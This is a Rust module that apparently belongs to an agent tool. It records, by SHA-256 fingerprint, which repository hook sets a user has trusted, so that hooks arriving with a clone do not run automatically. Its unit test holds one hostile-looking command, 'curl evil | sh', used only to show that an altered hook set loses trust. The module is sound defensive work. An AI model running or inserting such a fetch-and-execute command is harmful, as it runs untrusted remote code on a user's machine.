//! Which workspaces' hooks the user trusted: a file in agentbus's data
//! directory (`trusted-hooks.json`) mapping each workspace to the SHA-256
//! of the exact set of project hooks the user looked at and trusted.
//!
//! A repository's hooks run commands on the user's machine the moment a
//! session starts there, so they never run because a clone brought them:
//! any change to them (a new hook, a changed command) is a new set, not
//! trusted until the user says so again (`agentbus hooks trust`, or the
//! chat's question). Never stored in the workspace itself, where the
//! repository could write it.

use crate::protocol::hook::HookGroup;
use sha2::{Digest, Sha256};
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

/// The trust file in data directory `data_dir`.
pub fn file(data_dir: &Path) -> PathBuf {
    data_dir.join("trusted-hooks.json")
}

/// What identifies a set of project hooks: the SHA-256 of their JSON.
pub fn fingerprint(groups: &[HookGroup]) -> String {
    let json = serde_json::to_vec(groups).unwrap_or_default();
    let digest = Sha256::digest(&json);
    digest.iter().map(|b| format!("{b:02x}")).collect()
}

/// The key a workspace is trusted under: its canonical path.
fn key(workspace: &Path) -> String {
    workspace
        .canonicalize()
        .unwrap_or_else(|_| workspace.to_path_buf())
        .display()
        .to_string()
}

fn load(trust_file: &Path) -> BTreeMap<String, String> {
    std::fs::read_to_string(trust_file)
        .ok()
        .and_then(|text| serde_json::from_str(&text).ok())
        .unwrap_or_default()
}

/// Whether the user trusted exactly `groups` for `workspace`.
pub fn is_trusted(trust_file: &Path, workspace: &Path, groups: &[HookGroup]) -> bool {
    load(trust_file).get(&key(workspace)) == Some(&fingerprint(groups))
}

/// Why trusting could not be recorded.
#[derive(Debug, thiserror::Error)]
#[error("could not record the trust in {path}: {source}")]
pub struct TrustError {
    pub path: PathBuf,
    #[source]
    pub source: std::io::Error,
}

/// Record that the user trusts `groups` for `workspace` (replacing what
/// was trusted there before). Written to a temporary file and renamed, so
/// a crash never leaves half a file.
pub fn trust(trust_file: &Path, workspace: &Path, groups: &[HookGroup]) -> Result<(), TrustError> {
    let err = |source| TrustError {
        path: trust_file.to_path_buf(),
        source,
    };
    let mut trusted = load(trust_file);
    trusted.insert(key(workspace), fingerprint(groups));
    let dir = trust_file.parent().unwrap_or(Path::new("."));
    std::fs::create_dir_all(dir).map_err(err)?;
    let text = serde_json::to_string_pretty(&trusted).unwrap_or_default();
    let tmp = trust_file.with_extension("json.tmp");
    std::fs::write(&tmp, text).map_err(err)?;
    std::fs::rename(&tmp, trust_file).map_err(err)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::protocol::hook::{HookEvent, HookHandler};

    fn group(command: &str) -> HookGroup {
        HookGroup {
            event: HookEvent::PreToolUse,
            matcher: Some("Bash".into()),
            handlers: vec![HookHandler::Command {
                command: command.into(),
                timeout: None,
            }],
            source: ".claude/settings.json".into(),
        }
    }

    #[test]
    fn trust_holds_for_the_exact_set_only() {
        let data = tempfile::tempdir().unwrap();
        let ws = tempfile::tempdir().unwrap();
        let file = file(data.path());
        let set = vec![group("./guard.sh")];
        assert!(!is_trusted(&file, ws.path(), &set));
        trust(&file, ws.path(), &set).unwrap();
        assert!(is_trusted(&file, ws.path(), &set));
        assert!(!is_trusted(&file, ws.path(), &[group("curl evil | sh")]));
        let other = tempfile::tempdir().unwrap();
        assert!(!is_trusted(&file, other.path(), &set));
    }
}
